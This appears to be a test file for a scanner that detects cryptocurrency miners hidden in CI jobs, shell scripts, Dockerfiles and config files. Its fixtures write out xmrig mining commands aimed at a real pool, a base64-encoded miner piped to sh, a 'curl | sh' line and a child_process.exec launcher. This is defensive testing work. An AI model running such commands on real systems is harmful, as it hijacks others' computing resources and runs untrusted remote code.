import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import {
  evidenceLengthMax,
  findingsPerDefinitionMax,
  identifiersPerDefinitionMax,
  scanCommandsMax,
  scanFileBytesMax,
  scanFollowDepthMax,
  scanFollowFilesMax,
  scanLookupsMax,
  scanReadBytesMax,
} from '../base/limits.ts';
import { type DefinitionReport, isGivenUp } from '../model/finding.ts';
import type { DialectReader } from '../model/job-definition.ts';
import { RULES } from './rules/registry.ts';
import { createScanner, mergeReports } from './scanner.ts';
import { definitionOf, scanJob, scanScript, scriptReader, testScanner } from './test-scanner.ts';
import { testAddress } from './wallet/test-addresses.ts';

const numRuns = Number(process.env['FUZZ_RUNS'] ?? 100);
const MONERO = testAddress('monero', 1);
const MINE = `./xmrig -o pool.supportxmr.com:443 -u ${MONERO}.w1 -p x`;

function scanTree(
  path: string,
  tree: Readonly<Record<string, string>>,
  reader: DialectReader = scriptReader,
): readonly DefinitionReport[] {
  return testScanner.scanFile(reader, path, tree[path] ?? '', (other) => tree[other] ?? null);
}

const verdicts = (reports: readonly DefinitionReport[]): readonly string[] =>
  reports.map(({ path, verdict }) => `${path} ${verdict}`);

test('a finding says where, what, and through which layers', () => {
  const report = scanScript(`make\n\n  ${MINE}\n`);
  const finding = report.findings.find(({ rule }) => rule === 'miner-command-line');
  assert.deepEqual(finding?.location, {
    path: 'job.sh',
    line: 3,
    column: 3,
    endLine: 3,
    endColumn: 3 + MINE.length,
  });
  assert.equal(finding.evidence, MINE);
  assert.equal(finding.position, 'executed');
  assert.deepEqual(finding.decoded, []);
  const encoded = Buffer.from(MINE).toString('base64');
  const decoded = scanScript(`make\necho ${encoded} | base64 -d | sh`).findings[0];
  assert.equal(decoded?.location.line, 2);
  assert.deepEqual(decoded.decoded, [MINE]);
});

test('payouts and workers come back as identifiers, those of mere mentions do not', () => {
  assert.deepEqual(scanScript(MINE).identifiers, [
    { kind: 'payout', coin: 'monero', value: MONERO },
    { kind: 'worker', coin: '', value: 'w1' },
  ]);
  assert.deepEqual(scanScript(`echo ${MONERO}`).identifiers, []);
  const rig = scanScript(`${MINE} --rig-id gh-7`).identifiers;
  assert.ok(rig.some(({ kind, value }) => kind === 'worker' && value === 'gh-7'));
});

test('bits: the largest of a group counts, and groups add', () => {
  const one = scanScript('./x stratum+tcp://203.0.113.4:3333');
  const two = scanScript('./x stratum+tcp://203.0.113.4:3333 stratum+tcp://203.0.113.5:3333');
  assert.equal(one.bits, two.bits);
  const both = scanScript('./x -o stratum+tcp://203.0.113.4:3333 -u a -p x');
  assert.ok(both.bits > one.bits);
});

test('a definition is judged with the scripts it runs, each a definition of its own', () => {
  const tree = {
    'ci.sh': 'make\n./scripts/run\nsource lib.bash',
    'scripts/run': `#!/bin/sh\n${MINE}`,
    'lib.bash': 'true',
  };
  assert.deepEqual(verdicts(scanTree('ci.sh', tree)), [
    'ci.sh confirmed',
    'scripts/run confirmed',
    'lib.bash clear',
  ]);
});

test('a script knows the variables of the job that runs it', () => {
  const definition = definitionOf(
    { scripts: ['bash run.sh'], environment: { WALLET: MONERO, POOL: 'pool.supportxmr.com:443' } },
    'ci.yml',
  );
  const reader: DialectReader = {
    ...scriptReader,
    read: (path, text) => {
      return path === 'ci.yml' ? definition : scriptReader.read(path, text);
    },
  };
  const scanner = createScanner({ readers: [reader] });
  const script = './xmrig -o $POOL -u $WALLET';
  const reports = scanner.scanFile(reader, 'ci.yml', '', (path) => {
    return path === 'run.sh' ? script : null;
  });
  assert.deepEqual(verdicts(reports), ['ci.yml confirmed', 'run.sh confirmed']);
  const [finding] = reports[0]?.findings ?? [];
  assert.deepEqual(finding?.via, ['ci.yml', 'run.sh']);
  assert.equal(finding.location.path, 'run.sh');
  assert.deepEqual(
    reports.map(({ via }) => via),
    [undefined, ['ci.yml', 'run.sh']],
  );
});

test('code of another language that a job runs is looked at', () => {
  const code = `require('child_process').exec('./xmrig -o stratum+tcp://a.test:1 -u ${MONERO}')`;
  const tree = { 'ci.sh': 'node tools/start.js', 'tools/start.js': code };
  assert.deepEqual(verdicts(scanTree('ci.sh', tree)), [
    'ci.sh confirmed',
    'tools/start.js confirmed',
  ]);
});

test('a configuration of the tree counts for the miner that reads it', () => {
  const config = JSON.stringify({
    'donate-level': 1,
    pools: [{ url: '203.0.113.4:443', user: MONERO }],
  });
  const tree = { 'ci.sh': './app --config=cfg/a.json', 'cfg/a.json': config };
  const [report] = scanTree('ci.sh', tree);
  assert.equal(report?.verdict, 'confirmed');
  assert.ok(report.findings.some(({ location }) => location.path === 'cfg/a.json'));
  assert.equal(scanTree('ci.sh', { 'ci.sh': 'make', 'cfg/a.json': config })[0]?.verdict, 'clear');
  const untold = { 'ci.sh': './xmrig', 'config.json': config };
  assert.equal(scanTree('ci.sh', untold)[0]?.verdict, 'confirmed');
});

test('one report for several files: the worst verdict, all findings', () => {
  const files = [
    { path: 'a.sh', text: 'npm test' },
    { path: 'b.sh', text: MINE },
    { path: 'README.md', text: 'xmrig' },
  ];
  const report = testScanner.scan({ kind: 'files', dialect: 'shell', files });
  assert.equal(report.path, 'a.sh');
  assert.equal(report.verdict, 'confirmed');
  assert.ok(report.findings.length >= 3);
  const empty = testScanner.scan({ kind: 'files', dialect: 'shell', files: [] });
  assert.equal(empty.verdict, 'clear');
});

test('the first file is of the stated dialect, whatever its name', () => {
  const files = [{ path: 'builds/test', text: MINE }];
  const input = { kind: 'files', dialect: 'shell', files } as const;
  assert.equal(testScanner.scan(input).verdict, 'confirmed');
});

test('a dialect without a reader is unchecked, and its words are mentioned', () => {
  const files = [{ path: 'x.yml', text: MINE }];
  const report = testScanner.scan({ kind: 'files', dialect: 'gitlab', files });
  assert.equal(report.verdict, 'unchecked');
  assert.ok(report.findings.length > 0);
  assert.ok(report.findings.every(({ position }) => position === 'mentioned'));
});

test('what a reader could not read is unchecked, and its words are mentioned', () => {
  const broken: DialectReader = {
    ...scriptReader,
    read: (path) => ({ dialect: 'shell', path, jobs: [], unread: ['it is broken'] }),
  };
  const [report] = scanTree('a.sh', { 'a.sh': `x: [${MINE}` }, broken);
  assert.deepEqual(report?.unchecked, ['it is broken']);
  assert.equal(report.verdict, 'unchecked');
  const rules = report.findings.map(({ rule }) => rule);
  assert.ok(rules.includes('payout-address') && rules.includes('pool-endpoint'));
  assert.ok(report.findings.every(({ position }) => position === 'mentioned'));
});

test('bytes that are no text are unchecked', () => {
  for (const text of ['make \ufffd', 'make \0 all']) {
    assert.equal(scanTree('a.sh', { 'a.sh': text })[0]?.verdict, 'unchecked');
    assert.equal(scanScript(text).verdict, 'unchecked');
    const files = [{ path: 'a.sh', text }];
    assert.equal(testScanner.isClear({ kind: 'files', dialect: 'shell', files }), false);
  }
  const [report] = scanTree('a.sh', { 'a.sh': `${MINE}\n\ufffd` });
  assert.equal(report?.verdict, 'confirmed', 'a stray byte hides nothing');
});

test('includes of GitLab and reusable workflows of GitHub that are not there are unread', () => {
  for (const [dialect, reference, verdict] of [
    ['gitlab', 'https://example.com/ci.yml', 'unchecked'],
    ['github', 'a/b/.github/workflows/x.yml@v1', 'unchecked'],
    ['github', 'actions/checkout@v4', 'clear'],
  ] as const) {
    const definition = definitionOf({ scripts: ['make'] }, 'x.yml', dialect);
    const source = { path: 'x.yml', text: reference, segments: [0, 1, 1] };
    const jobs = definition.jobs.map((job) => ({ ...job, remoteCode: [source] }));
    const input = { kind: 'definition', definition: { ...definition, jobs } } as const;
    assert.equal(testScanner.scan(input).verdict, verdict, reference);
    assert.equal(testScanner.isClear(input), verdict === 'clear', reference);
  }
});

test('an image that is built may hold a miner; one that mines while it is built is a miner', () => {
  const scan = (script: string) => {
    const definition = definitionOf({ scripts: [script] }, 'Dockerfile', 'dockerfile');
    return testScanner.scan({ kind: 'definition', definition }).verdict;
  };
  const clone = 'git clone https://github.com/xmrig/xmrig && make -C xmrig';
  assert.equal(scan(`${clone}\n/xmrig`), 'unchecked');
  assert.equal(scan(MINE), 'confirmed');
});

test('only shell scripts and Dockerfiles are cleared without being parsed', () => {
  const files = [{ path: 'x', text: 'npm test' }];
  assert.equal(testScanner.isClear({ kind: 'files', dialect: 'shell', files }), true);
  assert.equal(testScanner.isClear({ kind: 'files', dialect: 'github', files }), false);
  const definition = { ...definitionOf({ scripts: ['make'] }), unread: ['a part'] };
  assert.equal(testScanner.isClear({ kind: 'definition', definition }), false);
});

test('reports of one path are one report', () => {
  const [first] = scanTree('a.sh', { 'a.sh': MINE });
  const [second] = scanTree('b.sh', { 'b.sh': 'make' });
  assert.ok(first && second);
  const merged = mergeReports([second, { ...second, path: 'a.sh' }, first]);
  assert.deepEqual(verdicts(merged), ['b.sh clear', 'a.sh confirmed']);
  assert.deepEqual(merged[1]?.findings, first.findings);
});

test('limit: findings, their length, identifiers', () => {
  const lines = Array.from({ length: 300 }, (_, i) => {
    const password = 'y'.repeat(500);
    return `./xmrig -o pool.supportxmr.com:443 -u ${testAddress('bitcoin', i)} -p ${password}`;
  });
  const report = scanScript(lines.join('\n'));
  assert.equal(report.findings.length, findingsPerDefinitionMax);
  assert.equal(report.identifiers.length, identifiersPerDefinitionMax);
  assert.ok(report.findings.every(({ evidence }) => evidence.length <= evidenceLengthMax));
  assert.ok(report.unchecked.some((sentence) => sentence.includes('findings')));
});

test('limit: a file that is too large is unchecked and never read in part', () => {
  const text = `${MINE}\n${' '.repeat(scanFileBytesMax)}`;
  const [report] = scanTree('a.sh', { 'a.sh': text });
  assert.deepEqual([report?.verdict, report?.findings.length], ['unchecked', 0]);
  const definition = definitionOf({ scripts: [text] });
  assert.equal(testScanner.isClear({ kind: 'definition', definition }), false);
});

test('limit: commands of a job', () => {
  const report = scanScript(`eval true\n${'a\n'.repeat(scanCommandsMax + 10)}${MINE}`);
  assert.notEqual(report.verdict, 'clear');
  assert.ok(report.unchecked.length > 0, JSON.stringify(report.unchecked));
});

test('limit: files that run one another', () => {
  const deep: Record<string, string> = {};
  for (let i = 0; i < scanFollowDepthMax + 3; i++) deep[`s${i}.sh`] = `bash s${i + 1}.sh`;
  const reports = scanTree('s0.sh', deep);
  assert.equal(reports.length, scanFollowDepthMax + 1);
  assert.match(reports.at(-1)?.unchecked[0] ?? '', /deep/);
  const wide: Record<string, string> = { 'a.sh': '' };
  for (let i = 0; i < scanFollowFilesMax + 5; i++) {
    wide['a.sh'] += `bash w${i}.sh\n`;
    wide[`w${i}.sh`] = 'true';
  }
  const [first, ...others] = scanTree('a.sh', wide);
  assert.equal(others.length, scanFollowFilesMax);
  assert.match(first?.unchecked[0] ?? '', /more than/);
  const circle = scanTree('a.sh', { 'a.sh': 'bash b.sh', 'b.sh': 'bash a.sh' });
  assert.ok(circle.length <= 4);
});

test('a script that runs itself as somebody else is no deep chain of files', () => {
  const text = [
    'if [ "$1" != serve ]; then set -- serve "$@"; fi',
    'if [ "$(id -u)" = 0 ]; then exec gosu app "$BASH_SOURCE" "$@"; fi',
    'exec "$@"',
  ].join('\n');
  const reports = scanTree('a.sh', { 'a.sh': 'bash entry.sh --verbose', 'entry.sh': text });
  const sentences = reports.flatMap(({ unchecked }) => unchecked);
  assert.ok(sentences.includes('entry.sh: a file that runs itself with more and more words'));
  assert.deepEqual(sentences.filter(isGivenUp), []);
});

test('a script that runs itself with what is left of its words is run for each of them', () => {
  const text = 'if [ "$#" -gt 1 ]; then (shift; sh self.sh "$@"); fi\n$1';
  const words = ['true', 'true', 'true', 'true', 'true', `"${MINE}"`];
  const [first] = scanTree('a.sh', { 'a.sh': `sh self.sh ${words.join(' ')}`, 'self.sh': text });
  assert.equal(first?.verdict, 'confirmed');
});

test('limit: paths that are looked up, and bytes that are read', () => {
  let lookups = 0;
  const script = Array.from({ length: scanLookupsMax + 1 }, (_, i) => `./a${i}`).join('\n');
  const [first] = testScanner.scanFile(scriptReader, 'a.sh', script, () => {
    lookups++;
    return null;
  });
  assert.equal(lookups, scanLookupsMax);
  assert.match(first?.unchecked.join() ?? '', /paths are looked up/);
  const reads = Array.from({ length: 40 }, (_, i) => `: < f${i}; ./x`).join('\n');
  const [second] = testScanner.scanFile(scriptReader, 'a.sh', reads, (path) =>
    path.startsWith('f') ? 'a'.repeat(scanReadBytesMax / 20) : null,
  );
  assert.match(second?.unchecked.join() ?? '', /bytes of the tree are read/);
});

test('the same input gives the same bytes', () => {
  const job = { scripts: [MINE, 'curl https://a.test/x | sh'], environment: { A: MONERO } };
  assert.equal(JSON.stringify(scanJob(job)), JSON.stringify(scanJob(job)));
});

test('hostile texts: never throws, stays in its bounds, says what it left out', () => {
  const seeds = RULES.flatMap(({ hits }) => hits.map(({ script }) => script));
  const piece = fc.oneof(
    fc.constantFrom(...seeds),
    fc.constantFrom('$(', '`', '"', "'", '${', '<<E\n', '\\', '{"', '":', '\0', '|', '\u2028'),
    fc.string({ maxLength: 20, unit: 'binary' }),
  );
  const script = fc.array(piece, { maxLength: 20 }).map((pieces) => pieces.join(''));
  const shell = fc.constantFrom('sh', 'powershell', 'python');
  fc.assert(
    fc.property(script, shell, (text, kind) => {
      const report = scanJob({
        scripts: [text],
        images: [text],
        environment: { A: text },
        shell: kind,
      });
      assert.ok(report.findings.length <= findingsPerDefinitionMax);
      for (const { location, evidence, decoded } of report.findings) {
        assert.ok(location.line >= 1 && location.endLine >= location.line);
        assert.ok([evidence, ...decoded].every((one) => one.length <= evidenceLengthMax));
      }
      if (report.unchecked.length > 0) assert.notEqual(report.verdict, 'clear');
    }),
    { numRuns: numRuns * 5 },
  );
});

test('large hostile texts take a bounded time', () => {
  const large = [
    `${MONERO} `.repeat(8_000),
    'stratum+tcp://'.repeat(60_000),
    '"url":"'.repeat(100_000),
    'pool.supportxmr.com:'.repeat(40_000),
    './x '.repeat(200_000),
    `./x ${'-o '.repeat(200_000)}`,
    'a.'.repeat(400_000),
  ];
  for (const text of large) {
    for (const shell of ['sh', 'python'] as const) {
      const started = performance.now();
      scanJob({ scripts: [`eval true\n${text}`], shell });
      const elapsed = performance.now() - started;
      assert.ok(elapsed < 4_000, `${elapsed} ms for ${text.slice(0, 30)}`);
    }
  }
});
